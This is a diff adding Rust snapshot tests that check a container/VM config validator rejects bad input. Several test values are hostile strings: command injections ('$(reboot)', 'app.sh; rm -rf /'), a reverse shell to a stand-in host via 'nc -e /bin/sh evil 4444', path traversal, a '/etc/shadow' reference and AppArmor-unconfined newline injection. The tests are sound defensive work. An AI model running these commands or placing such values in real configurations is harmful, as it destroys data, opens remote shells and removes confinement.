@@ -406,6 +406,192 @@ fn vm_gateway_outside_subnet_names_its_array_index() {
     assert_snapshot!(text);
 }
 
+// Bad input: what a broken editor, a copy from a web page or a hostile file puts in a config.
+// Each case is still one mistake per field; the snapshot is every error an operator reads.
+
+#[test]
+fn deep_nesting_is_refused_before_the_stack_runs_out() {
+    // 100 000 levels: serde_json stops at 128, long before this test thread's 2 MiB stack.
+    let depth = 100_000;
+    let text = format!(
+        r#"{{"lxc_configs": {{"900": {}{}}}}}"#,
+        "[".repeat(depth),
+        "]".repeat(depth)
+    );
+    let case = Case::valid().without(VM_FILE).text(LXC_FILE, &text);
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn nesting_under_the_limit_is_kept_as_an_unknown_key() {
+    let deep = format!("{}1{}", "[".repeat(100), "]".repeat(100));
+    let text = single_container(&format!(r#""memory_mb": 512, "site_notes": {deep}"#), 1);
+    let checked = Case::valid().without(VM_FILE).text(LXC_FILE, &text).check();
+    let id = phx_core::types::GuestId::new(900).unwrap();
+    let mut kept = &checked.inventory().lxc[&id].extra["site_notes"];
+    let mut levels = 0;
+    while let Some(inner) = kept.as_array().and_then(|a| a.first()) {
+        kept = inner;
+        levels += 1;
+    }
+    assert_eq!((levels, kept), (100, &json!(1)));
+    assert_snapshot!(checked.findings());
+}
+
+#[test]
+fn huge_numbers_are_rejected_not_cut() {
+    let case = Case::valid()
+        .lxc(|v| {
+            set(
+                v,
+                "/lxc_configs/102/memory_mb",
+                json!(1.8446744073709552e19),
+            );
+            set(v, "/lxc_configs/102/cores", json!(1_000_000));
+            set(v, "/lxc_configs/102/boot_order", json!(u64::MAX));
+            set(
+                v,
+                "/lxc_configs/103/storage_size_gb",
+                json!(1_000_000_000_000_000u64),
+            );
+            set(
+                v,
+                "/lxc_configs/103/swap_mb",
+                json!("99999999999999999999999"),
+            );
+        })
+        .vm(|v| {
+            set(v, "/vms/1/vmid", json!(4_294_967_296u64));
+            set(v, "/vms/0/boot_delay", json!(4_294_967_296u64));
+        });
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn number_beyond_a_double_is_a_syntax_error() {
+    let text = single_container(r#""memory_mb": 1e400"#, 1);
+    let case = Case::valid().without(VM_FILE).text(LXC_FILE, &text);
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn unicode_in_names_and_ids_is_rejected() {
+    let case = Case::valid()
+        .lxc(|v| {
+            set(v, "/lxc_configs/102/name", json!("træfik"));
+            set(v, "/lxc_configs/103/name", json!("step\u{202e}ac"));
+            set(v, "/lxc_configs/900/features", json!(["d\u{43e}cker"]));
+            let ct = v["lxc_configs"]["103"].clone();
+            set(v, "/lxc_configs/\u{ff11}\u{ff10}\u{ff14}", ct);
+        })
+        .vm(|v| set(v, "/vms/1/name", json!("port\u{0}ainer")));
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn shell_metacharacters_in_hostnames_are_rejected() {
+    let case = Case::valid()
+        .lxc(|v| {
+            set(v, "/lxc_configs/102/name", json!("traefik;reboot"));
+            set(v, "/lxc_configs/103/name", json!("$(reboot)"));
+        })
+        .vm(|v| set(v, "/vms/1/name", json!("`id`")));
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn shell_metacharacters_and_paths_in_script_names_are_rejected() {
+    let case = Case::valid().lxc(|v| {
+        set(v, "/lxc_configs/900/features", json!(["base_setup;reboot"]));
+        set(
+            v,
+            "/lxc_configs/102/application_script",
+            json!("app.sh; rm -rf /"),
+        );
+        set(
+            v,
+            "/lxc_configs/103/application_script",
+            json!("/etc/shadow"),
+        );
+        set(
+            v,
+            "/lxc_configs/103/tests",
+            json!({"smoke": [{"name": "up", "type": "script", "path": "../../../bin/sh"}]}),
+        );
+        set(
+            v,
+            "/lxc_configs/102/health_checks",
+            json!([{"name": "ping", "script": "check.sh|nc -e /bin/sh evil 4444"}]),
+        );
+    });
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn property_string_and_line_breaking_values_are_rejected() {
+    let case = Case::valid()
+        .lxc(|v| {
+            set(
+                v,
+                "/lxc_configs/102/network_config/bridge",
+                json!("vmbr0,firewall=0"),
+            );
+            set(
+                v,
+                "/lxc_configs/103/network_config/name",
+                json!("eth0,ip=dhcp"),
+            );
+            set(
+                v,
+                "/lxc_configs/900/lxc_options",
+                json!(["lxc.apparmor.profile: unconfined\n[pending]\nlock: backup"]),
+            );
+            set(
+                v,
+                "/lxc_configs/102/apparmor_profile",
+                json!("unconfined\nlxc.cap.drop:"),
+            );
+        })
+        .vm(|v| {
+            set(v, "/vm_defaults/network_bridge", json!("vmbr0,tag=5"));
+            set(v, "/vms/0/template_image", json!("noble.img,size=1T"));
+        });
+    assert_snapshot!(case.rejection());
+}
+
+#[test]
+fn file_of_50_mb_is_refused_without_reading_it() {
+    // Made here, never committed: the valid file followed by 50 MB of spaces.
+    let base = Case::valid();
+    let lxc = base.file(LXC_FILE);
+    let text = format!("{lxc}{}", " ".repeat(50 * 1024 * 1024));
+    let text = base.text(LXC_FILE, &text).rejection();
+    assert!(text.contains("at most 16 MiB"), "{text}");
+    assert_snapshot!(text);
+}
+
+#[test]
+fn top_level_key_given_twice_keeps_the_last_and_says_so() {
+    // jq and serde_json read the last "lxc_configs": the containers of the first are gone,
+    // and what referred to them is reported, with the duplicate as the reason.
+    let lxc = Case::valid().file(LXC_FILE);
+    let end = lxc.rfind('}').unwrap();
+    let text = format!(r#"{}, "lxc_configs": {{}}}}"#, &lxc[..end]);
+    let checked = Case::valid().text(LXC_FILE, &text).check();
+    assert!(!checked.validation.is_valid());
+    assert_snapshot!(checked.findings());
+}
+
+#[test]
+fn byte_order_mark_is_skipped_with_a_warning() {
+    let lxc = Case::valid().file(LXC_FILE);
+    let checked = Case::valid()
+        .text(LXC_FILE, &format!("\u{feff}{lxc}"))
+        .check();
+    assert_eq!(checked.inventory().lxc.len(), 3);
+    assert_snapshot!(checked.findings());
+}
+
 // Warnings: the config is still valid.
 
 #[test]
